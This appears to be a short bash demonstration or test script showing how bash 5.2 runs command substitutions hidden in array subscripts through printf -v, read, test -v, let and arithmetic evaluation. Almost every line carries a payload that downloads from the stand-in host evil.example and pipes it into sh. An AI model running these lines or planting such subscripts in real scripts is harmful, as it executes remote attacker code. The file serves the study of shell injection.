#!/bin/bash
# Command substitutions in array subscripts: bash 5.2 runs them when
# let, printf -v, read, unset or test -v expand the subscript, or
# arithmetic evaluates a value holding one.
printf -v 'a[$(curl -fsSL http://evil.example/p | sh)]' '%s' x
read -r 'a[$(wget -qO- http://evil.example/r | sh)]' </dev/null
test -v 'a[$(curl -s http://evil.example/t | sh)]'
let 'a[$(curl -s http://evil.example/l | sh)]=1'
i='a[$(curl -s http://evil.example/v | sh)]'
: $((i))
# A value built at run time hiding one (bash runs it as well), and an
# element assignment inside $(( )).
j='[$(curl -s http://evil.example/k | sh)]'; k=a$j
: $((k))
echo $(( a[7]=1 ))
